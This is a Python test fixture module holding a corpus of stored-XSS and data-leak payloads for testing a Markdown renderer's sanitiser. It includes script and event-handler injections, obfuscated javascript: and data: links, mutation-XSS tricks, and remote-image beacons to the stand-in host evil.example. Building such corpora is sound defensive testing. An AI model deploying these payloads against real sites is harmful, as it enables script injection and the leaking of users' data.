"""Stored-XSS and data-leak payloads for the Markdown renderer (unit tests and real Chromium).

Every payload that manages to run script sets `window.__xss` (and most also call `alert`);
every image that manages to load asks `evil.example`, which the browser test watches.
"""

from __future__ import annotations

EVIL_HOST = "evil.example"
SVG_SCRIPT_DATA = (
    "data:image/svg+xml;base64,"
    "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzPTEiLz4="
)

XSS_CORPUS: dict[str, str] = {
    "script tag": "<script>window.__xss=1;alert(1)</script>",
    "script tag upper": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "img onerror": '<img src=x onerror="window.__xss=1;alert(1)">',
    "onclick": '<a href="#" onclick="window.__xss=1">click</a>',
    "svg with script": '<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>',
    "iframe": '<iframe src="javascript:parent.__xss=1"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "style tag": "<style>body{background:url(https://evil.example/css-leak)}</style>",
    "style attribute": '<p style="background:url(https://evil.example/style-leak)">x</p>',
    "object": '<object data="javascript:window.__xss=1"></object>',
    "embed": '<embed src="https://evil.example/embed.swf">',
    "form": '<form action="javascript:window.__xss=1"><button>Go</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "details ontoggle": '<details open ontoggle="window.__xss=1;alert(1)"><summary>x</summary>',
    "mutation xss": "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "malformed nested": "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "unclosed img": '<img src="x" onerror="window.__xss=1" ',
    "html comment": "<!-- --><script>window.__xss=1</script><!-- -->",
    "comment trick": "<!--><img src=x onerror=window.__xss=1>-->",
    "raw javascript link": '<a href="javascript:window.__xss=1">x</a>',
    "raw data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "raw entity link": '<a href="&#x6A;avascript&#x3A;window.__xss=1">x</a>',
    "md javascript link": "[click](javascript:window.__xss=1)",
    "md mixed case": "[click](JaVaScRiPt:window.__xss=1)",
    "md entity scheme": "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "window.__xss=1)",
    "md hex entity scheme": "[click](&#x6A;avascript&#x3A;window.__xss=1)",
    "md tab in scheme": "[click](jav&#x09;ascript:window.__xss=1)",
    "md newline entity": "[click](java&#10;script:window.__xss=1)",
    "md leading space": "[click]( javascript:window.__xss=1)",
    "md angle link": "[click](<javascript:window.__xss=1>)",
    "md colon entity": "[click](javascript&colon;window.__xss=1)",
    "md data html link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md vbscript": "[click](vbscript:msgbox(1))",
    "md reference link": "[click][r]\n\n[r]: javascript:window.__xss=1",
    "md autolink javascript": "<javascript:window.__xss=1>",
    "md title breakout": '[x](https://ok.example "t\\" onmouseover=\\"window.__xss=1")',
    "md alt breakout": '![x" onerror="window.__xss=1](https://evil.example/alt.png)',
    "md image javascript": "![x](javascript:window.__xss=1)",
    "md image svg data": f"![x]({SVG_SCRIPT_DATA})",
    "remote image": "![x](https://evil.example/leak?d=secret)",
    "remote image reference": "![x][img]\n\n[img]: https://evil.example/leak-ref?d=secret",
    "remote image protocol relative": "![x](//evil.example/leak-pr)",
    "remote image backslash": "![x](/\\evil.example/leak-bs)",
    "remote image http upper": "![x](HTTPS://EVIL.EXAMPLE/leak-upper)",
    "raw img remote": '<img src="https://evil.example/leak-raw">',
    "raw img srcset": '<img srcset="https://evil.example/leak-srcset 1x">',
    "video poster": '<video poster="https://evil.example/leak-poster"></video>',
    "table cell html": "| a |\n|---|\n| <img src=x onerror=window.__xss=1> |",
    "code fence html": "```html\n<script>window.__xss=1</script>\n```",
    "inline code html": "`<img src=x onerror=window.__xss=1>`",
    "class injection": '<div class="fixed inset-0 z-50">overlay</div>',
    "nul byte": "<scr\x00ipt>window.__xss=1</scr\x00ipt>",
}
